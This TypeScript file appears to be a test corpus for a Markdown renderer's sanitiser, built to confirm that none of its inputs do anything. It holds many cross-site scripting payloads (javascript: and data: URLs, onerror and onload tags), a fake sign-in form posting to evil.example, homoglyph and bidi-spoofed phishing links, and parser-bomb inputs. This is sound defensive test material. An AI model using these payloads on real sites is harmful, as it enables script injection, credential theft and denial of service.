/** Texts that try to be more than text. */

const addresses = [
  "javascript:alert(1)",
  "JaVaScRiPt:alert(1)",
  "javascript://example.com/%0aalert(1)",
  "java\tscript:alert(1)",
  "java&Tab;script:alert(1)",
  "java&#10;script:alert(1)",
  "&#106;avascript:alert(1)",
  "&#x6A;avascript&colon;alert(1)",
  "&#0000106&#0000097vascript:alert(1)",
  "javascript&#58;alert(1)",
  "javascript%3Aalert(1)",
  "\u0001javascript:alert(1)",
  "\u200bjavascript:alert(1)",
  "javas\\cript:alert(1)",
  "data:text/html,<script>alert(1)</script>",
  "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
  "data:image/svg+xml,<svg onload=alert(1)>",
  "DATA:image/png;base64,AAAA",
  "vbscript:msgbox(1)",
  "VBScript&colon;msgbox(1)",
  "livescript:alert(1)",
  "file:///etc/passwd",
  "blob:https://example.com/1",
  "filesystem:https://example.com/1",
  "view-source:https://example.com",
  "feed:javascript:alert(1)",
  "//evil.example",
  "/\\evil.example",
  "https:evil.example",
  "http:\\\\evil.example",
  "https://bank.example@evil.example/",
  "https://bank.example:443@evil.example/",
  `https://a.example/"onmouseover="alert(1)`,
  "https://a.example/'onmouseover='alert(1)",
  "mailto:a@b.example?bcc=c@d.example&body=x",
];

const linkForms = [
  (address: string) => `[text](${address})`,
  (address: string) => `[text](<${address}> "title")`,
  (address: string) => `<${address}>`,
  (address: string) => `![text](${address})`,
  (address: string) => `[text][r]\n\n[r]: ${address}`,
  (address: string) => `[![text](${address})](${address})`,
];

const html = [
  "<script>alert(1)</script>",
  "<script src=//evil.example></script>",
  "<img src=x onerror=alert(1)>",
  '<img src="https://evil.example/pixel.gif">',
  "<image src=x onerror=alert(1)>",
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><animate onbegin=alert(1) attributeName=x></svg>",
  "<svg><use href=//evil.example#x></svg>",
  "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  '<math href="javascript:alert(1)">x</math>',
  "<math><maction actiontype=statusline#https://evil.example xlink:href=javascript:alert(1)>x</maction></math>",
  "<style>*{display:none}</style>",
  "<style>@import url(//evil.example)</style>",
  '<link rel=stylesheet href="//evil.example">',
  '<div style="position:fixed;inset:0;background:url(//evil.example)">x</div>',
  '<p class="fixed inset-0 z-50">x</p>',
  '<h1 id="main" name="body">x</h1>',
  "<iframe src=javascript:alert(1)></iframe>",
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  "<object data=javascript:alert(1)></object>",
  "<embed src=javascript:alert(1)>",
  "<form action=//evil.example><input name=code><button>Sign in</button></form>",
  "<button formaction=javascript:alert(1)>x</button>",
  "<input autofocus onfocus=alert(1)>",
  "<base href=//evil.example>",
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  "<a href=javascript:alert(1)>x</a>",
  "<a href='https://evil.example' target=_top>x</a>",
  "<details open ontoggle=alert(1)>x</details>",
  "<video><source onerror=alert(1)></video>",
  "<audio src=x onerror=alert(1)>",
  "<marquee onstart=alert(1)>x</marquee>",
  "<body onload=alert(1)>",
  "<template><script>alert(1)</script></template>",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  "<!--><img src=x onerror=alert(1)>-->",
  "<![CDATA[><img src=x onerror=alert(1)>]]>",
  "<?xml version=1?><x onclick=alert(1)>",
  "<xmp><img src=x onerror=alert(1)></xmp>",
  "<plaintext>",
  "</div></main></body><script>alert(1)</script>",
  "<dialog open>x</dialog>",
  "<x-element onclick=alert(1)>x</x-element>",
];

const htmlForms = [(tag: string) => tag, (tag: string) => `text **${tag}** text`];

const attributes = [
  "``` fixed inset-0 z-50\ncode\n```",
  '~~~ "><script>alert(1)</script>\ncode\n~~~',
  "```html onclick=alert(1) {.fixed #main}\ncode\n```",
  '[text](https://a.example "\\" onclick=alert(1) x=\\"")',
  "[text](https://a.example '\"><script>alert(1)</script>')",
  "[text](https://a.example){onclick=alert(1)}",
  '![" onerror="alert(1)](https://a.example/b.png)',
  "![x](https://a.example/b.png =100000x100000)",
  "# Heading {#main .fixed}",
  "| a{.fixed} |\n|:-:|\n| <b onclick=alert(1)> |",
  "- [x] <script>alert(1)</script>\n- [ ] [x](javascript:alert(1))",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&#60;script&#62;alert(1)&#60;/script&#62;",
  "`<script>alert(1)</script>`",
  "    <script>alert(1)</script>",
  "\\<script>alert(1)\\</script>",
  "[toString]: javascript:alert(1)\n\n[toString] [constructor] [__proto__]",
  "[__proto__]: https://a.example\n\n[__proto__]",
  "@acc_<script>alert(1)</script>",
  "@team_01ARZ3NDEKTSV4RRFFQ69G5FAV<img src=x onerror=alert(1)>",
];

const directions = ["\u202e", "\u202d", "\u202a", "\u202b", "\u2066", "\u2067", "\u2068"];
const bidi = directions.flatMap((mark) => [
  `Pay ${mark}moc.elpmaxe.live`,
  `[${mark}bank.example](https://evil.example)`,
  `\`${mark}code\` @${mark}acc_01ARZ3NDEKTSV4RRFFQ69G5FAV`,
]);

/** Links whose text says another address than they have, or whose letters look like others. */
export const deceptive = [
  "[https://bank.example](https://evil.example/)",
  "[bank.example](https://evil.example/)",
  "[www.bank.example/sign-in](https://evil.example/)",
  "[**bank.example**](https://evil.example/)",
  "[bank&period;example](https://evil.example/)",
  "[bank.exam\u200bple](https://evil.example/)",
  "[ｂａｎｋ．example](https://evil.example/)",
  "[b\u0430nk.example](https://evil.example/)",
  "[https://evil.example.bank.example](https://evil.example/)",
  "[security@bank.example](mailto:a@evil.example)",
  `[${"x ".repeat(150)}bank.example](https://evil.example/)`,
  "[text](https://b\u0430nk-evil.example/)",
  "https://b\u0430nk-evil.example/",
  "<https://b\u0430nk-evil.example/>",
  "[https://b\u0430nk-evil.example](https://b\u0430nk-evil.example)",
];

const long = (text: string, length = 20_000) => text.repeat(Math.ceil(length / text.length)).slice(0, length);
const mention = "@acc_01ARZ3NDEKTSV4RRFFQ69G5FAV ";

/** Texts that ask for much work, or grow. */
export const bombs: Record<string, string> = {
  "a megabyte of quotes": long(">", 1_000_000),
  "a megabyte of brackets": long("[", 1_000_000),
  quotes: long(">"),
  "quotes and lists": long("> - "),
  lists: Array.from({ length: 180 }, (_, depth) => `${" ".repeat(depth)}- x`).join("\n"),
  "ordered lists": long("1. "),
  "items without a text": long("-\n"),
  brackets: long("["),
  "brackets, closed": long("[]"),
  "brackets, nested": `${long("[", 10_000)}${long("]", 10_000)}`,
  "links, nested": `${long("[a](", 10_000)}${long(")", 5_000)}`,
  "images, nested": long("![a]("),
  "links without an end": long("[a](<b"),
  stars: long("*"),
  "stars, apart": long("*a "),
  "stars, both ways": long("*a_ "),
  "emphasis, nested": `${long("*a **b ", 10_000)}${long("c** d*", 10_000)}`,
  "runs of marks": long("a**b_c*d__e"),
  backticks: Array.from({ length: 190 }, (_, count) => "`".repeat(count)).join("a"),
  "less-than signs": long("<"),
  "open comments": long("<!--"),
  "open tags": long("<a b='"),
  ampersands: long("&"),
  entities: long("&#x1F600;"),
  backslashes: long("\\"),
  tildes: long("~~a~"),
  pipes: `${long("|", 5_000)}\n${long("|-", 10_000)}|\n${long("|\n", 4_000)}`,
  cells: `${long("a|", 600)}\n${long("-|", 600)}\n${long("b\n", 18_000)}`,
  "a reference, often": `[a]: https://a.example/${long("x", 1_900)}\n\n${long("[a] ", 18_000)}`,
  "a reference in a few places": `[a]: https://a.example/${long("x", 1_900)}\n\n${"[a] ".repeat(900)}`,
  "a long reference, often": `[a]: https://a.example/${long("x", 10_000)}\n\n${long("[a] ", 9_900)}`,
  "many references": Array.from({ length: 800 }, (_, n) => `[${n}]: https://a.example/${n}`).join("\n"),
  "addresses side by side": long("https://a.example/"),
  "addresses that begin": long("http://"),
  "emails side by side": long("a@a.example,"),
  dots: long("a."),
  "a long word": long("a"),
  "spaces before an end of line": long(" \n"),
  "a table that is none": `${long("a|")}\n-`,
  mentions: long(mention),
  headings: long("# a\n"),
  rules: long("***\n"),
  fences: long("```\n"),
};

/** All of them: none may do anything. */
export const corpus = [
  ...addresses.flatMap((address) => linkForms.map((form) => form(address))),
  ...html.flatMap((tag) => htmlForms.map((form) => form(tag))),
  ...attributes,
  ...bidi,
  ...deceptive,
  ...Object.values(bombs),
];

/** Everything that a text can be. */
export const sample = `
# One
## Two
### Three
A **strong**, *emphasized*, ~~struck~~, \`coded\` text  
with [a link](https://a.example "title"), [bank.example](https://evil.example) and <mailto:a@b.example>.
![a picture](https://a.example/b.png) @acc_01ARZ3NDEKTSV4RRFFQ69G5FAV @team_01ARZ3NDEKTSV4RRFFQ69G5FAW @acc_01ARZ3NDEKTSV4RRFFQ69G5FAX

> A quote

- An item
  - Below it
1. First

   Apart
2. Second

- [x] Done
- [ ] To do

| Left | Center | Right |
| --- | :-: | --: |
| 1 | 2 | 3 |

---

\`\`\`ts
const code = 1;
\`\`\`
`;
